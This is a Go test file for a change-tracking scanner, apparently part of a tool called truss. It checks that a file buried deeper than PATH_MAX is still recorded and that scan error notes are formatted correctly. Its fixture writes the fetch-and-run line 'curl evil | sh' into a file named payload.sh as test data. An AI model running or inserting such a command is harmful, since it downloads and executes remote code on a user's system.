//go:build linux

package changes

import (
	"context"
	"errors"
	"strings"
	"testing"

	"golang.org/x/sys/unix"
)

// TestDeepPath: a file whose path is longer than PATH_MAX is recorded
// like any other.
func TestDeepPath(t *testing.T) {
	root := t.TempDir()
	ctx := context.Background()
	tr := open(t, []string{root}, Options{NoGit: true})
	// mkdir -p by descriptor: 20 levels of 250-byte names (5,020 bytes).
	name := strings.Repeat("d", 250)
	fd, err := unix.Open(root, unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		t.Fatal(err)
	}
	for range 20 {
		if err := unix.Mkdirat(fd, name, 0o755); err != nil {
			t.Fatal(err)
		}
		nfd, err := unix.Openat(fd, name, unix.O_RDONLY|unix.O_DIRECTORY, 0)
		if err != nil {
			t.Fatal(err)
		}
		unix.Close(fd)
		fd = nfd
	}
	pfd, err := unix.Openat(fd, "payload.sh", unix.O_CREAT|unix.O_WRONLY, 0o755)
	if err != nil {
		t.Fatal(err)
	}
	unix.Write(pfd, []byte("curl evil | sh\n"))
	unix.Close(pfd)
	unix.Close(fd)
	ch, err := tr.Scan(ctx)
	if err != nil {
		t.Fatalf("scan: %v", err)
	}
	want := strings.Repeat(name+"/", 20) + "payload.sh"
	for _, c := range ch {
		if c.Path == want {
			if string(c.AfterData) != "curl evil | sh\n" {
				t.Errorf("the payload's contents: %q", c.AfterData)
			}
			return
		}
	}
	t.Errorf("the payload is not recorded: %d changes", len(ch))
}

// TestScanNote: a scan's error is appended to a command's stderr on a
// line of its own, cut to a bound.
func TestScanNote(t *testing.T) {
	long := errors.New(strings.Repeat("x", 3*maxScanNote))
	for _, tc := range []struct {
		name, stderr string
		err          error
		want         string
	}{
		{"empty", "", errors.New("list a: permission denied"), "truss: the changes this command made may be incomplete: list a: permission denied\n"},
		{"no newline", "oops", errors.New("e"), "oops\ntruss: the changes this command made may be incomplete: e\n"},
		{"joined", "ok\n", errors.Join(errors.New("a"), errors.New("b")), "ok\ntruss: the changes this command made may be incomplete: a; b\n"},
		{"long", "", long, "truss: the changes this command made may be incomplete: " + strings.Repeat("x", maxScanNote) + " …\n"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if got := scanNote(tc.stderr, tc.err); got != tc.want {
				t.Errorf("scanNote(%q, %v) = %q, want %q", tc.stderr, tc.err, got, tc.want)
			}
		})
	}
}
